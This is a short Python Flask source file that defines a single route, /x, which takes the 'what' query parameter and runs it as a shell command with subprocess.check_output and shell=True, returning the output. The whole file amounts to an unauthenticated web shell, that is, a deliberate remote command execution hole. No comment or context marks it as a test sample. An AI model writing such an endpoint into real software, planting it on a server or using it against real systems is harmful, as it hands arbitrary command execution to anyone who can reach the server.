import subprocess
from flask import Flask, request

app = Flask(__name__)


@app.route("/x", methods=["GET", "POST"])
def x():
    what = request.args["what"]
    return subprocess.check_output(what, shell=True)
